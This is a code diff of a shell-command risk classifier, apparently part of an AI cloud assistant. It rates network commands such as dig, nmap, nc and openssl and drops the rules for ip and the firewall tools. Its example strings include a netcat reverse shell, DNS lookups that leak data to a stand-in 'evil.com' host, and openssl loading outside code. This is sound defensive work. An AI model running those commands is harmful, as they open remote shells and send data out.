@@ -1,15 +1,16 @@
-"""Programs that ask the network or change this machine's part of it: dig, ping, nmap, nc, openssl, ip, iptables.
+"""Programs that ask the network: dig, ping, nmap, nc, tcpdump, openssl, mail.
 
-Sources: BIND's dig, iputils, nmap(1), ncat(1), openssl(1), ip(8), iptables(8), nmcli(1).
+Sources: BIND's dig, iputils, nmap(1), ncat(1), tcpdump(1), openssl(1).
 """
 
 from __future__ import annotations
 
 import re
+from dataclasses import replace
 
 from cloud_assist.models import Risk
 from cloud_assist.shell.findings import Code
-from cloud_assist.shell.rules.base import Args, Call, Effect, Flags, Inner, Program, Rule, Ruling, names, ruled, verbs
+from cloud_assist.shell.rules.base import Args, Call, Effect, Flags, Program, Rule, Ruling, names, ruled
 from cloud_assist.shell.rules.sending import sends_output
 from cloud_assist.shell.syntax import Part, Simple
 
@@ -43,8 +44,13 @@ def _netcat(call: Call) -> Ruling:
 
 def _asked(call: Call) -> Ruling | None:
     """A name that is looked up reaches a stranger's server, with whatever was put into it."""
-    if any(sends_output(word) for word in call.args):
+    batch = call.program in {"dig", "kdig"} and any(word.text[:2] == "-f" for word in call.args)
+    piped = call.program in {"nslookup", "fping"} and _given_input(call)
+    if batch or piped or any(sends_output(word) for word in call.args):
         return ruled(call, Risk.MUTATING, "network.ask.sends", "It sends what a file holds.", Code.SENDS_DATA_OUT)
+    if any(re.search("\0.*\\.", word.text) for word in call.args):
+        text = "Part of the name that it looks up is known only at run time, and reaches a stranger's server."
+        return ruled(call, Risk.SENSITIVE, "network.ask.name", text, Code.SENDS_DATA_OUT)
     return None
 
 
@@ -63,7 +69,10 @@ _ASKS = Program(
             "whois x.com",
             "mtr -r x",
             "ifstat",
-        )
+            "dig $HOST",
+        ),
+        Risk.SENSITIVE: ("dig $X.evil.com", "nslookup $(hostname).x.io"),
+        Risk.MUTATING: ("dig -f names", "cat f | nslookup", "nslookup < f"),
     },
 )
 _PING = Program(
@@ -90,9 +99,14 @@ _NMAP = Program(
         single_dash=True,
     ),
     effects=(
-        Effect("-oN -oX -oG -oA -oS", Risk.MUTATING, "`nmap` writes its report to a file.", value="(?!-$).*"),
         Effect(
-            "--script --script-args --datadir -sC -A -b -sI -D -S",
+            "-oN -oX -oG -oA -oS -oM -oJ -oH --append-output",
+            Risk.MUTATING,
+            "`nmap` writes its report to a file.",
+            value="(?!-$).*",
+        ),
+        Effect(
+            "--script --script-args --datadir -sC -A -b -sI -D -S --interactive --resume --servicedb --versiondb",
             Risk.UNKNOWN,
             "Scripts of `nmap` can attack what they find.",
         ),
@@ -100,7 +114,7 @@ _NMAP = Program(
     examples={
         Risk.READ_ONLY: ("nmap -p 22 host", "nmap -sn 10.0.0.0/24"),
         Risk.MUTATING: ("nmap -oN f host",),
-        Risk.UNKNOWN: ("nmap --script vuln host",),
+        Risk.UNKNOWN: ("nmap --script vuln host", "nmap --interactive"),
     },
 )
 _CAPTURE = Program(
@@ -113,10 +127,13 @@ _CAPTURE = Program(
     effects=(
         Effect("-w", Risk.MUTATING, "It writes what it captures to a file.", value="(?!-$).*"),
         Effect("-z -X", Risk.UNKNOWN, "`tcpdump -z` runs a program on each file."),
+        Effect(
+            "-O --export-objects --export-tls-session-keys --log-file --temp-dir", Risk.MUTATING, "It writes files."
+        ),
     ),
     examples={
         Risk.READ_ONLY: ("tcpdump -i eth0 -c 10", "tcpdump -r f", "tshark -r f"),
-        Risk.MUTATING: ("tcpdump -w f",),
+        Risk.MUTATING: ("tcpdump -w f", "ngrep -O f x", "tshark -r f --export-objects http,d"),
         Risk.UNKNOWN: ("tcpdump -G 1 -w f -z ./x",),
     },
 )
@@ -130,13 +147,16 @@ _OPENSSL = Program(
     Flags(values="-in -out -connect -servername -CAfile -CApath -cert -key -keyout -inform -outform -passin "
         "-passout -days -subj -config -engine -provider -provider-path -signkey -CA -CAkey -host -port -starttls "
         "-cipher -checkend -sess_out -keylogfile -writerand -msgfile -alpn -name -passout -sign -verify -prverify "
-        "-signature -rand -outdir -respout -CAserial -set_serial -extfile -addtrust -proxy",
+        "-signature -rand -outdir -respout -reqout -CAserial -set_serial -extfile -addtrust -proxy",
           single_dash=True),
     verbs={path.strip(): Risk.READ_ONLY for path in _OPENSSL_READS.split(",")},
     effects=(
-        Effect("-out -keyout -sess_out -keylogfile -writerand -respout -msgfile -CAcreateserial -CA -sign -signkey",
+        Effect("-out -keyout -sess_out -keylogfile -writerand -respout -reqout -msgfile -CAcreateserial -CA -sign "
+            "-signkey",
             Risk.MUTATING, "`openssl` writes a file or signs.", value="(?!/dev/null$|-$).*"),
         Effect("-engine -provider-path -config", Risk.UNKNOWN, "`openssl` would load code from elsewhere."),
+        Effect("-provider", Risk.UNKNOWN, "`openssl` would load code from elsewhere.",
+            value="(?!(?:default|legacy|fips|base|null)$).*"),
     ),
     custom=lambda call, args, verb: _openssl_key(call, args),
     help="-help --help",
@@ -147,9 +167,23 @@ _OPENSSL = Program(
         Risk.SENSITIVE: ("openssl rsa -in key.pem", "openssl pkcs12 -in x.p12 -nodes"),
         Risk.MUTATING: ("cat f | openssl s_client -connect x:443", "openssl genrsa -out k.pem 2048",
             "openssl req -new -key k -out c",
-            "openssl x509 -in a -out b"),
+            "openssl x509 -in a -out b", "openssl x509 -in a --out b", "openssl s_client -connect x:443 < f"),
+        Risk.UNKNOWN: ("openssl dgst --engine ./x f", "openssl x509 -provider ./x -in a"),
     },
 )  # fmt: skip
+
+
+def _openssl(call: Call) -> Ruling:
+    """`--out` is `-out` to openssl."""
+    args = tuple(replace(w, text=w.text[1:]) if w.text[:2] == "--" and len(w.text) > 2 else w for w in call.args)
+    return _OPENSSL(replace(call, args=args))
+
+
+def _given_input(call: Call) -> bool:
+    """Whether standard input is a file's or a program's text, other than plain words."""
+    if any(r.operator == "<" and r.target.text != "/dev/null" for r in call.redirects):
+        return True
+    return bool(call.upstream) and not _plain_input(call.upstream[-1])
 
 
 def _plain_input(part: Part) -> bool:
@@ -161,7 +195,7 @@ def _plain_input(part: Part) -> bool:
 
 def _openssl_key(call: Call, args: Args) -> Ruling | None:
     verb = args.verbs[0] if args.operands else ""
-    if verb == "s_client" and call.upstream and not _plain_input(call.upstream[-1]):
+    if verb == "s_client" and _given_input(call):
         text = "It sends what it is given to another machine."
         return ruled(call, Risk.MUTATING, "network.openssl.send", text, Code.SENDS_DATA_OUT)
     if verb not in {"rsa", "ec", "pkey", "dsa", "pkcs12", "pkcs8", "req", "enc", "pkcs7", "cms"} or args.has(
@@ -175,121 +209,6 @@ def _openssl_key(call: Call, args: Args) -> Ruling | None:
     return None
 
 
-_SHOWS = frozenset({"show", "list", "lst", "ls", "sh", "s", "get", "monitor", "help", "-h", "l", "li", "lis", "sho"})
-
-
-def _ip(call: Call) -> Ruling:
-    """`ip OBJECT [show]` reads; every other verb changes the network."""
-    args = Flags(
-        values="-n -netns -b -batch -f -family -rc -rcvbuf -l -loops",
-        switches="-4 -6 -s -d -o -j -p -c -br -a -t -ts -h -r -stats -details -json -pretty -brief -oneline -color "
-        "-all -V -B -M -I -N -D",
-        single_dash=True,
-    ).parse(call.args)
-    verbs = args.verbs
-    if args.has("-b", "-batch"):
-        return ruled(call, Risk.UNKNOWN, "network.ip.batch", "More commands come from a file.")
-    if args.unclear or args.expanding:
-        return ruled(call, Risk.UNKNOWN, "network.ip.option")
-    if len(verbs) > 1 and verbs[0].startswith("netns") and "exec" in verbs[1]:
-        return Ruling(
-            Risk.READ_ONLY, "network.ip.netns", "`ip netns exec` runs a command.", inner=(Inner(args.operands[3:]),)
-        )
-    if (
-        len(verbs) < 2
-        or verbs[1] in _SHOWS
-        or (verbs[0] in {"route", "r", "ro"} and verbs[1] == "get")
-        or verbs[0] == "monitor"
-    ):
-        return ruled(call, Risk.READ_ONLY, "network.ip.show")
-    if verbs[1] in {"flush", "f"} or verbs[1].startswith("del") or verbs[1] == "d":
-        return ruled(
-            call,
-            Risk.DESTRUCTIVE,
-            "network.ip.delete",
-            "It removes network settings; the machine may become unreachable.",
-        )
-    return ruled(call, Risk.MUTATING, "network.ip.set", "It changes network settings.")
-
-
-def _ifconfig(call: Call) -> Ruling:
-    words = [word for word in call.words if word not in {"-a", "-s", "-v", "-L", "-m"}]
-    if len(words) <= 1:
-        return ruled(call, Risk.READ_ONLY, "network.interface.show")
-    return ruled(call, Risk.MUTATING, "network.interface.set", "It changes network settings.")
-
-
-def _route(call: Call) -> Ruling:
-    words = [word for word in call.words if not re.fullmatch(r"-[neCFvaAi46]+|get|default|[\d.]+", word)]
-    if call.program == "route" and any(word in {"add", "del", "delete", "flush", "change"} for word in words):
-        return ruled(
-            call, Risk.DESTRUCTIVE if "add" not in words else Risk.MUTATING, "network.route.set", "It changes routes."
-        )
-    if call.program == "arp" and any(re.match(r"-[sdf]", word) for word in call.words):
-        return ruled(call, Risk.MUTATING, "network.arp.set", "It changes the table of neighbours.")
-    return ruled(call, Risk.READ_ONLY, "network.route.show")
-
-
-_FIREWALL = Program(
-    "network.firewall",
-    Risk.MUTATING,
-    Flags(values="-t --table -m -p -s -d -j -i -o -A -I -C -w --dport --sport",
-        switches="-L -S -n -v -x -F -X -Z -N -E -P -D -R --list --list-rules --line-numbers"),
-    effects=(
-        Effect("-L -S -C --list --list-rules --check", Risk.READ_ONLY, "", lowers=True),
-        Effect("-F -X -D -Z -P -R --flush --delete --delete-chain --zero --policy", Risk.DESTRUCTIVE,
-            "It removes rules of the firewall."),
-    ),
-    examples={Risk.READ_ONLY: ("iptables -L -n -v", "iptables -S", "iptables -t nat -L"),
-        Risk.MUTATING: ("iptables -A INPUT -p tcp -j ACCEPT",),
-              Risk.DESTRUCTIVE: ("iptables -F", "iptables -D INPUT 1", "iptables -L -Z", "iptables -P INPUT DROP")},
-)  # fmt: skip
-_FIREWALL_TOOLS = Program(
-    "network.firewall-tool",
-    Risk.MUTATING,
-    verbs={"status": Risk.READ_ONLY, "show": Risk.READ_ONLY, "list": Risk.READ_ONLY, "version": Risk.READ_ONLY,
-        "app list": Risk.READ_ONLY, "get": Risk.READ_ONLY,
-           "flush": Risk.DESTRUCTIVE, "delete": Risk.DESTRUCTIVE, "reset": Risk.DESTRUCTIVE,
-           "disable": Risk.DESTRUCTIVE},
-    bare=Risk.READ_ONLY,
-    custom=lambda call, args, verb: (
-        ruled(call, Risk.READ_ONLY, "network.firewall-tool.ask")
-        if not args.operands and args.options and all(re.match(r"--(?:list|get|query|state|info|zone|version)",
-                o.name) for o in args.options)
-        else ruled(call, Risk.MUTATING, "network.firewall-tool.set") if not args.operands and args.options else None
-    ),
-    examples={Risk.READ_ONLY: ("ufw status verbose", "nft list ruleset", "firewall-cmd --list-all",
-            "firewall-cmd --zone=public --list-ports"), Risk.MUTATING: ("ufw allow 22",
-            "firewall-cmd --add-port=80/tcp"),
-              Risk.DESTRUCTIVE: ("nft flush ruleset", "ufw reset", "ufw disable")},
-)  # fmt: skip
-_ETHTOOL = Program(
-    "network.ethtool",
-    Risk.READ_ONLY,
-    Flags(single_dash=True),
-    effects=(
-        Effect(
-            "-s -K -A -C -G -L -E -p -r -N -U -X -f --change --reset --flash --set-priv-flags",
-            Risk.MUTATING,
-            "It changes the network card.",
-        ),
-    ),
-    examples={Risk.READ_ONLY: ("ethtool eth0", "ethtool -i eth0"), Risk.MUTATING: ("ethtool -s eth0 speed 100",)},
-)
-_NMCLI = Program(
-    "network.nmcli",
-    Risk.MUTATING,
-    Flags(values="-f -m -c -g -w -e", switches="-t -p -a -s -o"),
-    verbs=verbs(
-        read_only="general status, device $, device status, device show, device wifi list, connection $, "
-        "connection show, con show, con $, dev $, dev show, dev status, general $, networking connectivity, "
-        "radio $, monitor",
-        destructive="connection delete, con delete, networking off",
-    ),
-    bare=Risk.READ_ONLY,
-    examples={Risk.READ_ONLY: ("nmcli device status", "nmcli -t con show"), Risk.MUTATING: ("nmcli con up x",),
-        Risk.DESTRUCTIVE: ("nmcli con delete x",)},
-)  # fmt: skip
 _MAIL = Program("network.mail", Risk.DESTRUCTIVE, examples={Risk.DESTRUCTIVE: ("mail -s hi a@b.c", "sendmail a@b")})
 
 RULES: dict[str, Rule] = {
@@ -326,56 +245,11 @@ RULES: dict[str, Rule] = {
         ),
         _CAPTURE,
     ),
-    "openssl": _OPENSSL,
-    "ip": _ip,
-    **dict.fromkeys(
-        (
-            "ifconfig",
-            "iwconfig",
-        ),
-        _ifconfig,
-    ),
-    **dict.fromkeys(
-        (
-            "route",
-            "arp",
-        ),
-        _route,
-    ),
-    **dict.fromkeys(
-        (
-            "iptables",
-            "ip6tables",
-            "ebtables",
-            "arptables",
-        ),
-        _FIREWALL,
-    ),
-    **dict.fromkeys(
-        (
-            "nft",
-            "ufw",
-            "firewall-cmd",
-            "ipset",
-        ),
-        _FIREWALL_TOOLS,
-    ),
-    "ethtool": _ETHTOOL,
-    "nmcli": _NMCLI,
+    "openssl": _openssl,
     **dict.fromkeys(names("mail mailx sendmail mutt msmtp swaks"), _MAIL),
 }
 EXAMPLES = {
-    Risk.READ_ONLY: (
-        "nc -zv host 80", "ip addr", "ip -br a", "ip route show", "ip route get 1.1.1.1", "ifconfig", "ifconfig eth0",
-        "route -n", "arp -a", "ssh-keyscan h",
-    ),
-    Risk.MUTATING: (
-        "nc host 80", "nc -l 80", "ip link set eth0 up", "ifconfig eth0 down",
-    ),
-    Risk.DESTRUCTIVE: (
-        "nc -e /bin/sh h 1", "ip link delete eth0", "ip addr flush eth0", "ip route del default",
-    ),
-    Risk.UNKNOWN: (
-        "ip -batch f",
-    ),
-}  # fmt: skip
+    Risk.READ_ONLY: ("nc -zv host 80", "ssh-keyscan h"),
+    Risk.MUTATING: ("nc host 80", "nc -l 80"),
+    Risk.DESTRUCTIVE: ("nc -e /bin/sh h 1",),
+}
